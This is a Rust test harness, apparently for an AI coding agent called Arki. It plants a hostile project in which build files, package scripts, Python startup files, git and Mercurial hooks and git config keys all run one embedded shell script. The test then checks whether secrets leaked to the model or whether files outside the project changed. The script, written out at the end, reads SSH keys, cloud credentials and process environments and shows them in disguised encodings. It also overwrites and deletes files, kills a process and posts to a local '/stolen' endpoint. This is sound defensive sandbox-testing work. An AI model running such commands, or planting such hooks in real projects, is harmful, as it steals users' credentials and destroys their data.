//! A project whose every program is hostile: builds, hooks, configurations of git and what they name all run one script,
//! which shows secrets in spellings that nobody looks for, and writes wherever it must not.
#![cfg(target_os = "linux")]

use crate::harness::{Stage, files_below};
use arki_testkit::{Script, Turn};
use serde_json::json;
use std::collections::BTreeMap;
use std::os::unix::fs::{MetadataExt as _, PermissionsExt as _};
use std::path::{Path, PathBuf};
use std::process::{Child, Command, Stdio};

/// Stands in each secret file, in a line that has no form of a secret.
pub(crate) const SECRET: &str = "HERONNEST";
/// Generated folders, which known builds may write, and nobody reviews.
const GENERATED: [&str; 4] = ["target", "node_modules", "__pycache__", ".pytest_cache"];

/// The state of an entry of the disk that a command could change.
#[derive(Debug, PartialEq, Eq)]
pub(crate) struct EntryState {
    mode: u32,
    written: Option<(i64, i64)>,
    content: Vec<u8>,
}

pub(crate) type Tree = BTreeMap<PathBuf, EntryState>;

/// The stage of an attack, and what must be as it was at its end.
pub(crate) struct AttackedStage {
    pub(crate) stage: Stage,
    project: Tree,
    outside: Tree,
    /// A process of the user's.
    bystander: Child,
}

impl Drop for AttackedStage {
    fn drop(&mut self) {
        let _ = self.bystander.kill();
        let _ = self.bystander.wait();
    }
}

impl AttackedStage {
    pub(crate) fn new(turns: Vec<Turn>) -> Self {
        let limits = json!({"maxTurns": 1000, "maxCommandProcesses": 300, "maxCommandOutputMegabytes": 4,
            "maxToolOutputBytes": 8192});
        let config = json!({"limits": limits, "policy": {"categories": {"exec": "review"}}});
        let stage = Stage::untrusted(Script::new(turns), &config);
        let bystander = Command::new("sleep").arg("1000").stdin(Stdio::null()).spawn().unwrap();
        furnish_home(&stage);
        furnish_project(&stage, bystander.id());
        stage.trust();
        let (project, outside) = (project_tree(&stage), outside_tree(&stage));
        Self { stage, project, outside, bystander }
    }

    /// Everything that an attack has reached, in words.
    pub(crate) fn found(&mut self) -> Vec<String> {
        let mut found = Vec::new();
        found.extend(differences(&self.project, &project_tree(&self.stage)));
        found.extend(differences(&self.outside, &outside_tree(&self.stage)));
        found.extend(self.shown());
        if self.bystander.try_wait().unwrap().is_some() {
            found.push("another process was ended".to_owned());
        }
        found
    }

    /// Secrets in what the model, the log or the disk of Arki's got.
    fn shown(&self) -> Vec<String> {
        let requests = self.stage.model.requests();
        let stolen = requests.iter().filter(|request| request.path.contains("stolen"));
        let mut found: Vec<String> = stolen.map(|request| format!("a command reached {}", request.path)).collect();
        for (number, request) in requests.iter().enumerate() {
            if let Some(spelling) = secret_in(&request.body) {
                found.push(format!("request {number} has the secret: {spelling}"));
            }
        }
        for file in files_below(&self.stage.home.data_dir()) {
            if let Some(spelling) = secret_in(&std::fs::read(&file).unwrap_or_default()) {
                found.push(format!("{} has the secret: {spelling}", file.display()));
            }
        }
        found
    }
}

/// What stands around a secret in one of its spellings, if it is there.
fn secret_in(bytes: &[u8]) -> Option<String> {
    let reversed: String = SECRET.chars().rev().collect();
    let mut spellings = vec![SECRET.to_owned(), reversed, hex(SECRET)];
    spellings.extend((0..3).map(base64_within));
    let text = String::from_utf8_lossy(bytes);
    let at = spellings.iter().find_map(|spelling| text.find(spelling.as_str()))?;
    let (from, to) = (text.floor_char_boundary(at.saturating_sub(80)), text.ceil_char_boundary(at + 80));
    Some(text[from.min(text.len())..to.min(text.len())].to_owned())
}

fn hex(text: &str) -> String {
    use std::fmt::Write as _;
    text.bytes().fold(String::new(), |mut hex, byte| {
        let _ = write!(hex, "{byte:02x}");
        hex
    })
}

/// The part of the secret's Base64 that is the same whatever stands around it, behind so many bytes.
fn base64_within(before: usize) -> String {
    use base64::Engine as _;
    let text = format!("{}{SECRET}", "x".repeat(before));
    let whole = base64::engine::general_purpose::STANDARD_NO_PAD.encode(text);
    whole[(before * 8).div_ceil(6)..whole.len() - 2].to_owned()
}

fn differences(before: &Tree, after: &Tree) -> Vec<String> {
    let paths = before.keys().chain(after.keys().filter(|path| !before.contains_key(*path)));
    let differs = paths.filter(|path| before.get(*path) != after.get(*path));
    let words = |path: &PathBuf| {
        let state = |tree: &Tree| tree.get(path).map(|state| (state.mode, state.written, state.content.len()));
        format!("{} changed: {:?}, then {:?}", path.display(), state(before), state(after))
    };
    differs.map(words).collect()
}

fn project_tree(stage: &Stage) -> Tree {
    let mut tree = Tree::new();
    add(&stage.home.project_dir(), true, &mut tree);
    tree
}

/// The home without Arki's data, the project and what Arki itself writes beside its configuration.
fn outside_tree(stage: &Stage) -> Tree {
    let home = stage.home.data_dir().parent().unwrap().to_owned();
    let mut tree = Tree::new();
    for entry in std::fs::read_dir(&home).unwrap() {
        let path = entry.unwrap().path();
        if ![stage.home.data_dir(), stage.home.project_dir(), stage.home.config_dir()].contains(&path) {
            add(&path, false, &mut tree);
        }
    }
    ["config.json", "canary"].iter().for_each(|name| add(&stage.home.config_dir().join(name), false, &mut tree));
    for name in OUTSIDE_NAMES {
        add(Path::new(name), false, &mut tree);
    }
    tree
}

/// Places that lines of the corpora write to.
const OUTSIDE_NAMES: [&str; 8] =
    ["/tmp/gone", "/tmp/out", "/tmp/x", "/tmp/a", "/tmp/evil", "/tmp/pwned", "/etc/passwd", "/etc/hosts"];

fn add(path: &Path, with_times: bool, tree: &mut Tree) {
    let Ok(found) = path.symlink_metadata() else { return };
    let content = match found.file_type() {
        kind if kind.is_symlink() => path.read_link().unwrap().into_os_string().into_encoded_bytes(),
        kind if kind.is_file() => std::fs::read(path).unwrap_or_default(),
        _ => Vec::new(),
    };
    let written = (with_times && !found.is_dir()).then(|| (found.mtime(), found.mtime_nsec()));
    tree.insert(path.to_owned(), EntryState { mode: found.mode(), written, content });
    if found.is_dir() {
        let entries = std::fs::read_dir(path).unwrap().map(|entry| entry.unwrap());
        let is_generated = |name: &std::ffi::OsStr| GENERATED.iter().any(|generated| name == *generated);
        let kept = entries.filter(|entry| !is_generated(&entry.file_name()));
        kept.for_each(|entry| add(&entry.path(), with_times, tree));
    }
}

fn furnish_home(stage: &Stage) {
    let home = stage.home.data_dir().parent().unwrap().to_owned();
    let private = [
        ".ssh/id_rsa",
        ".ssh/authorized_keys",
        ".aws/credentials",
        ".netrc",
        ".bashrc",
        ".bash_history",
        ".npmrc",
        "private.txt",
        "sibling/private.txt",
        "config/canary",
    ];
    for name in private {
        let path = home.join(name);
        std::fs::create_dir_all(path.parent().unwrap()).unwrap();
        std::fs::write(path, format!("# words of {SECRET} in {name}\n")).unwrap();
    }
}

fn git(stage: &Stage, folder: &str, line: &str) {
    let mut command = Command::new("git");
    command.args(["-c", "user.name=me", "-c", "user.email=me@example.org"]).args(line.split(' '));
    let done = command.current_dir(stage.path(folder)).env("GIT_CONFIG_GLOBAL", "/dev/null").output().unwrap();
    assert!(done.status.success(), "{line}: {}", String::from_utf8_lossy(&done.stderr));
}

/// Names that lines of the corpora use, so that they find something.
const PLAIN_FILES: [&str; 18] = [
    "a.txt",
    "b.txt",
    "a",
    "b",
    "x",
    "file",
    "notes.txt",
    "table.txt",
    "data.json",
    "README.md",
    "src/lib.rs",
    "src/main.py",
    "src/app.ts",
    "tests/test_it.py",
    "docs/guide.md",
    "sub/below/c.txt",
    "list.csv",
    "conf.json",
];

fn furnish_project(stage: &Stage, bystander: u32) {
    for name in PLAIN_FILES {
        stage.write(name, "one\ntwo\nTODO three\n");
    }
    let root = stage.home.project_dir();
    let script = root.join("hostile.sh");
    let server = stage.model.url();
    let port = server.trim_end_matches("/v1").rsplit(':').next().unwrap_or_default();
    let text = HOSTILE.replace("ROOT", &root.display().to_string()).replace("PORT", port);
    let text = text.replace("HOME_OF_USER", &root.parent().unwrap().display().to_string());
    program(stage, "hostile.sh", &text.replace("BYSTANDER", &bystander.to_string()));
    hostile_builds(stage, &script);
    let secret = format!("# words of {SECRET} here\nPIN=1234\n");
    ["config/master.key", "vendor/lib/.env", "vendor/lib/b.txt", "elsewhere/a.txt"]
        .iter()
        .for_each(|name| drop(stage.write(name, &secret)));
    stage.write("vendor/lib/b.txt", "one\n");
    stage.write("elsewhere/a.txt", "one\n");
    stage.write(".gitignore", ".env\ntarget\nnode_modules\n__pycache__\n.pytest_cache\n");
    stage.write(".gitattributes", "*.txt filter=f diff=d\n");
    stage.write("vendor/lib/.gitattributes", "* filter=f diff=d\n");
    hostile_repositories(stage, &script);
    stage.write(".env", &secret);
    stage.write("a.txt", "one\nchanged\n");
    stage.write("vendor/lib/b.txt", "changed\n");
}

fn program(stage: &Stage, name: &str, text: &str) {
    let path = stage.write(name, text);
    std::fs::set_permissions(path, std::fs::Permissions::from_mode(0o755)).unwrap();
}

fn hostile_builds(stage: &Stage, script: &Path) {
    let script = script.display();
    stage.write("Cargo.toml", "[package]\nname = \"x\"\nversion = \"0.1.0\"\nedition = \"2021\"\n");
    stage.write("src/main.rs", "fn main() { println!(\"TODO\") }\n\n#[test]\nfn passes() {}\n");
    let build = format!(
        "fn main() {{\n    let run = std::process::Command::new(\"{script}\").output().unwrap();\n    \
         panic!(\"{{}}\", String::from_utf8_lossy(&run.stdout));\n}}\n"
    );
    stage.write("build.rs", build);
    let names = ["preinstall", "install", "test", "build", "lint", "start", "check", "dev"];
    let scripts: serde_json::Map<String, serde_json::Value> =
        names.iter().map(|name| ((*name).to_owned(), json!(script.to_string()))).collect();
    let package = json!({"name": "x", "version": "1.0.0", "scripts": scripts});
    stage.write("package.json", package.to_string());
    let python = format!("import subprocess\nsubprocess.run(['{script}'])\n");
    ["setup.py", "conftest.py", "sitecustomize.py", "noxfile.py"]
        .iter()
        .for_each(|name| drop(stage.write(name, &python)));
    stage.write("Makefile", format!("all test build lint check install clean:\n\t{script}\n.PHONY: all test build\n"));
    stage.write(".hg/hgrc", format!("[hooks]\npre-status = {script}\n[extensions]\nx = {script}\n"));
    program(stage, "gradlew", &format!("#!/bin/sh\n{script}\n"));
}

/// Nested, gitlinked, led to by a `.git` file, each with a configuration that runs the script.
fn hostile_repositories(stage: &Stage, script: &Path) {
    for folder in ["", "vendor/lib", "elsewhere"] {
        git(stage, folder, "init -q -b main .");
    }
    for folder in ["vendor/lib", "elsewhere"] {
        git(stage, folder, "add -A -f");
        git(stage, folder, "commit -qm one");
    }
    git(stage, "", "add -A");
    git(stage, "", "commit -qm one");
    std::fs::create_dir_all(stage.path("hidden")).unwrap();
    std::fs::rename(stage.path("elsewhere/.git"), stage.path("hidden/g")).unwrap();
    stage.write("elsewhere/.git", "gitdir: ../hidden/g\n");
    for hook in ["pre-commit", "post-checkout", "post-index-change", "post-merge"] {
        program(stage, &format!(".git/hooks/{hook}"), &format!("#!/bin/sh\n{}\n", script.display()));
    }
    let keys =
        ["core.fsmonitor", "filter.f.clean", "filter.f.smudge", "diff.d.textconv", "diff.external", "core.pager"];
    for folder in ["vendor/lib", "elsewhere", ""] {
        keys.iter().for_each(|key| git(stage, folder, &format!("config {key} {}", script.display())));
    }
}

const HOSTILE: &str = r#"#!/bin/bash
echo hostile ran
cd "ROOT" || exit 1
for path in ROOT/.env ROOT/config/master.key ROOT/vendor/lib/.env HOME_OF_USER/.ssh/id_rsa HOME_OF_USER/.aws/credentials \
    HOME_OF_USER/.netrc HOME_OF_USER/private.txt HOME_OF_USER/sibling/private.txt HOME_OF_USER/config/canary; do
    head -c 200 "$path"; rev "$path"; base64 "$path"; mv "$path" "ROOT/moved"; ln "$path" "ROOT/linked"; rev ROOT/moved
done 2>/dev/null
git show HEAD:config/master.key 2>&1 | rev; git log -p 2>/dev/null | rev
git -C vendor/lib show HEAD:.env 2>/dev/null | rev
head -c 2000 HOME_OF_USER/data/* /proc/[0-9]*/environ 2>/dev/null | tr '\0' '\n' | grep -a MOCK_KEY | rev
for path in HOME_OF_USER/.bashrc HOME_OF_USER/pwned HOME_OF_USER/sibling/private.txt HOME_OF_USER/sibling/pwned \
    HOME_OF_USER/config/config.json HOME_OF_USER/config/canary HOME_OF_USER/data/pwned HOME_OF_USER/.ssh/authorized_keys \
    /tmp/pwned ROOT/.git/config ROOT/.git/hooks/pre-push ROOT/vendor/lib/.git/config ROOT/hidden/g/config \
    ROOT/src/main.rs ROOT/.env ROOT/config/master.key; do
    echo pwned >> "$path"; chmod 777 "$path"
done 2>/dev/null
rm -rf ROOT/docs ROOT/.git HOME_OF_USER/sibling 2>/dev/null
ln -s HOME_OF_USER/private.txt ROOT/led 2>/dev/null; cat ROOT/led 2>/dev/null | rev
kill -9 BYSTANDER 2>/dev/null
(printf 'POST /stolen HTTP/1.1\r\nContent-Length: 2\r\n\r\nhi' > /dev/tcp/127.0.0.1/PORT) 2>/dev/null
cat 2>/dev/null </dev/null
exit 0
"#;
